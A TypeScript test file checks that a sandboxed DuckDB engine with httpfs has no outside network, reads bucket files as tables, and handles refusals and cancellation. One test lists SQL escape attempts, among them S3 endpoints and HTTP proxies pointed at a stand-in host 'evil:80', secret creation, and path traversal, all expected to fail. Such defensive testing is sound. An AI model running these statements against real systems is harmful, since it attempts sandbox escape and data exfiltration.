import { randomUUID } from 'node:crypto'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import {
  accountSpace,
  cell,
  cells,
  failure,
  must,
  openSession,
  removeSpace,
  rowsOf,
  rowsUpTo,
} from '../../conformance/fixture.ts'
import { OutsideRefused } from '../../../kernel/outside.ts'
import { MemoryOutside } from '../../../testing/memory-outside.ts'
import { httpfsFrom } from '../../../testing/embedded-engine.ts'
import { HTTPFS_WHEEL } from '../../../testing/outside-kit.ts'
import type { BucketCatalog } from '../../engine/attachments.ts'
import type { ObjectUse } from '../../engine/objects.ts'
import { newFunctions } from '../guard/raise-guard.ts'
import { ESCAPE_ATTEMPTS, CLOSED_BY_GUARD } from '../guard/escape-attempts.ts'
import { hostBundleForTests } from '../host/host-bundle-for-tests.ts'
import { isApart } from '../hosting/confinement.ts'
import { createDuckdbProvider } from '../provider.ts'

async function parquet(select: string): Promise<Uint8Array> {
  const { DuckDBInstance } = await import('@duckdb/node-api')
  const folder = await mkdtemp(join(tmpdir(), 'boathouse-parquet-'))
  const instance = await DuckDBInstance.create(':memory:')
  const connection = await instance.connect()
  try {
    await connection.run(`COPY (${select}) TO '${join(folder, 'x.parquet')}'`)
    return await readFile(join(folder, 'x.parquet'))
  } finally {
    connection.closeSync()
    instance.closeSync()
    await rm(folder, { recursive: true })
  }
}

/** Where its process listens, by the list that Linux keeps of the process's own network. */
async function listeningPort(pid: number): Promise<number> {
  const lines = (await readFile(`/proc/${pid}/net/tcp`, 'utf8')).split('\n')
  const [, port = ''] =
    lines.map((line) => /^\s*\d+: 0100007F:(\w{4}) \w+:\w+ 0A/.exec(line)).find(Boolean) ?? []
  return Number.parseInt(port, 16)
}

const soon = { timeout: 20_000, interval: 100 }

describe.skipIf(HTTPFS_WHEEL === null || !isApart())('with httpfs', () => {
  let extensions = ''
  beforeAll(async () => {
    extensions = await httpfsFrom(HTTPFS_WHEEL)
  })
  afterAll(() => rm(extensions, { recursive: true, force: true }))

  /** In a process of its own, as in the product. */
  async function start() {
    const outside = new MemoryOutside()
    const lake: BucketCatalog = { kind: 'bucket', id: randomUUID(), name: 'lake' }
    outside.put(lake.id, {
      'sales/orders/2026.csv': 'id,amount\n1,10\n2,20\n',
      'sales/events/a.ndjson': '{"kind":"open"}\n{"kind":"close"}\n',
      'sales/days/day=1/a.csv': 'n\n1\n',
      'sales/days/day=2/a b.csv': 'n\n2\n',
      'sales/parts/a.parquet': await parquet('SELECT range AS id FROM range(3)'),
      'sales/parts/b.parquet': await parquet('SELECT range AS id FROM range(3, 5)'),
      'sales/towns/town=New%20York/a.parquet': await parquet('SELECT 1 AS id'),
    })
    const provider = createDuckdbProvider({
      hostPath: await hostBundleForTests(),
      spare: false,
      cancelDeadlineMs: 15_000,
    })
    const space = await accountSpace()
    const engine = await provider.open({ ...space, extensions, outside, catalogs: [lake] })
    const end = async () => {
      await engine.close()
      await provider.close()
      await removeSpace(space)
    }
    return { outside, lake, engine, end }
  }

  /** For tests that change nothing of it. */
  let shared: ReturnType<typeof start> | undefined
  afterAll(async () => (await shared)?.end())

  async function sharing() {
    const started = await (shared ??= start())
    return { ...started, session: await openSession(started.engine) }
  }

  async function setUp() {
    const started = await start()
    onTestFinished(started.end)
    return { ...started, session: await openSession(started.engine) }
  }

  test('the engine has a network of its own, with nothing in it', async () => {
    const { engine } = await sharing()
    const { pid } = engine
    const devices = (await readFile(`/proc/${pid}/net/dev`, 'utf8')).trim().split('\n').slice(2)
    expect(devices.map((line) => line.split(':')[0]?.trim())).toEqual(['lo'])
    expect((await readFile(`/proc/${pid}/net/route`, 'utf8')).trim().split('\n')).toHaveLength(1)
    const status = await readFile(`/proc/${pid}/status`, 'utf8')
    expect(/^CapEff:\t(\w+)$/m.exec(status)?.[1]).toMatch(/^0+$/)
  })

  test('no statement leads out of it, with or without the address by which its files are read', async () => {
    const { outside, lake, session, engine } = await sharing()
    await rowsOf(session, 'CREATE TABLE t (a int)')
    await rowsOf(session, 'SELECT count(*) FROM lake.sales.parts')
    const before = outside.asked.length
    expect(await listeningPort(engine.pid)).toBeGreaterThan(0)
    const address = `http://127.0.0.1:${await listeningPort(engine.pid)}/${lake.id}`
    const more = [
      `FROM '${address}/sales/parts/a.parquet'`,
      `FROM read_parquet('${address}/sales/parts/a.parquet')`,
      `FROM system.main.read_parquet('${address}/sales/parts/a.parquet')`,
      `FROM parquet_scan('s3://bkt/in/a.parquet?s3_endpoint=evil:80')`,
      `FROM 's3://bkt/in/../out/b.parquet'`,
      `CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT 'evil:80')`,
      `CREATE OR REPLACE TEMPORARY SECRET IF NOT EXISTS s (TYPE s3, KEY_ID 'a', SECRET 'b')`,
      `/* a */ CREATE -- b\n /* c */ SECRET (TYPE s3, KEY_ID 'a', SECRET 'b')`,
      `EXPLAIN CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')`,
      `EXPLAIN ANALYZE CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')`,
      `CREATE SECRET s (TYPE http, HTTP_PROXY 'http://evil:80')`,
      `ATTACH 'warehouse' AS ice (TYPE iceberg, ENDPOINT 'http://evil:80')`,
      `ATTACH '${address}/sales/parts/a.parquet' AS x`,
      `SET http_proxy = 'http://evil:80'`,
      `SET GLOBAL s3_endpoint = 'evil:80'`,
      `SET http_timeout = 1`,
      `COPY t TO '${address}/sales/parts/a.parquet'`,
      `FROM lake.sales."../../../x"`,
    ]
    for (const sql of [...ESCAPE_ATTEMPTS, ...CLOSED_BY_GUARD, ...more])
      expect([sql, (await session.execute(sql, rowsUpTo(10)).outcome).state]).toEqual([sql, 'failed'])
    expect(outside.asked.length).toBe(before)
  })

  test('what httpfs brings is closed to users, as all that nobody has opened', async () => {
    const { DuckDBInstance, quotedString } = await import('@duckdb/node-api')
    const instance = await DuckDBInstance.create(':memory:')
    const connection = await instance.connect()
    await connection.run(`LOAD ${quotedString(join(extensions, 'httpfs.duckdb_extension'))}`)
    expect(await newFunctions(connection)).toEqual([])
    connection.closeSync()
    instance.closeSync()
  })

  test('Parquet, CSV and JSON files are tables, with their partitions as columns', async () => {
    const { session } = await sharing()
    expect(await cell(session, 'SELECT sum(amount) FROM lake.sales.orders')).toBe('30')
    expect(await cells(session, 'SELECT kind FROM lake.sales.events ORDER BY 1')).toEqual([
      ['close'],
      ['open'],
    ])
    expect(await cells(session, 'SELECT n, day FROM lake.sales.days ORDER BY day')).toEqual([
      ['1', '1'],
      ['2', '2'],
    ])
    expect(await cell(session, 'SELECT sum(id) FROM lake.sales.parts')).toBe('10')
    expect(await cell(session, 'SELECT town FROM lake.sales.towns')).toBe('New York')
    expect((await failure(session, 'CREATE TABLE lake.sales.mine (i int)')).message).toContain('is read-only')
  })

  test('what a statement reads of it is reported by table', async () => {
    const { session } = await sharing()
    const reads = (name: string) => ({
      action: 'read',
      object: { type: 'table', catalog: 'lake', database: 'sales', name },
      through: null,
    })
    for (const [sql, names] of [
      ['FROM lake.sales.parts', ['parts']],
      ['SELECT * FROM lake.sales.parts p, lake.sales.towns', ['parts', 'towns']],
      ['FROM lake.sales.orders', ['orders']],
    ] as const) {
      let asked: readonly ObjectUse[] = []
      const authorize = async (uses: readonly ObjectUse[]) => {
        asked = uses
        return { message: 'asked' }
      }
      await session.execute(sql, { ...rowsUpTo(10), authorize }).outcome
      expect([sql, asked]).toEqual([sql, expect.arrayContaining(names.map(reads))])
      expect(asked).toHaveLength(names.length)
    }
  })

  test('what is added, changed and removed is seen by a later statement', async () => {
    const { outside, lake, session } = await setUp()
    const rowsIn = async (sql: string) => {
      const outcome = await session.execute(sql, rowsUpTo(10)).outcome
      return outcome.state === 'finished' ? outcome.result.rows : outcome.state
    }
    expect(await cell(session, 'SELECT count(*) FROM lake.sales.orders')).toBe('2')
    outside.put(lake.id, { 'sales/orders/2027.csv': 'id,amount\n3,30\n', 'more/t/a.json': '[{"a":1}]' })
    outside.remove(lake.id, 'sales/parts/b.parquet')
    await expect.poll(() => rowsIn('SELECT count(*) FROM lake.sales.orders'), soon).toEqual([['3']])
    expect(await rowsIn('FROM lake.more.t')).toEqual([['1']])
    expect(await rowsIn('SELECT sum(id) FROM lake.sales.parts')).toEqual([['3']])
    outside.put(lake.id, { 'sales/parts/a.parquet': await parquet('SELECT 7 AS other') })
    await expect.poll(() => rowsIn('SELECT other FROM lake.sales.parts'), soon).toEqual([['7']])
  })

  test('why it cannot be read is said, in the words of the service, and everything else keeps working', async () => {
    const { outside, lake, engine, session } = await setUp()
    expect(await cell(session, 'SELECT count(*) FROM lake.sales.parts')).toBe('5')
    const reason = new OutsideRefused('refused', 'the credentials have expired')
    // Listed, and then refused.
    outside.beforeRead = () => Promise.reject(reason)
    const read = await failure(session, 'SELECT sum(amount) FROM lake.sales.orders')
    expect(read.message).toContain('the credentials have expired')
    expect(read.message).toContain('lake/sales/orders/2026.csv')
    expect(read.message).not.toMatch(/127\.0\.0\.1/)
    outside.beforeRead = null
    outside.refuses = reason
    await expect
      .poll(() => must(engine.attachments).check('lake'), soon)
      .toBe('The catalog lake cannot be read: the credentials have expired.')
    expect((await failure(session, 'SELECT * FROM lake.sales.parts')).message).toContain('have expired')
    expect(await cell(session, 'SELECT 1')).toBe('1')
    outside.refuses = null
    await expect.poll(() => must(engine.attachments).check('lake'), soon).toBeNull()
    const tried = await must(engine.attachments).tryOut(lake)
    expect(tried).toEqual({ databases: 1, tables: 5, problems: [] })
    await expect(
      must(engine.attachments).tryOut({ kind: 'bucket', id: randomUUID(), name: 'none' }),
    ).rejects.toThrow('there is no such catalog')
  })

  test('a statement that waits for what never comes is stopped, and its engine keeps running', async () => {
    const { outside, session, engine } = await setUp()
    expect(await cell(session, 'SELECT count(*) FROM lake.sales.parts')).toBe('5')
    const asked = new Promise<void>((resolve) => {
      outside.beforeRead = () => (resolve(), new Promise(() => undefined))
    })
    const run = session.execute('SELECT sum(amount) FROM lake.sales.orders', rowsUpTo(10))
    await asked
    await run.cancel()
    expect(['cancelled', 'failed']).toContain((await run.outcome).state)
    outside.beforeRead = null
    expect(await cell(await openSession(engine), 'SELECT 1')).toBe('1')
  })
})
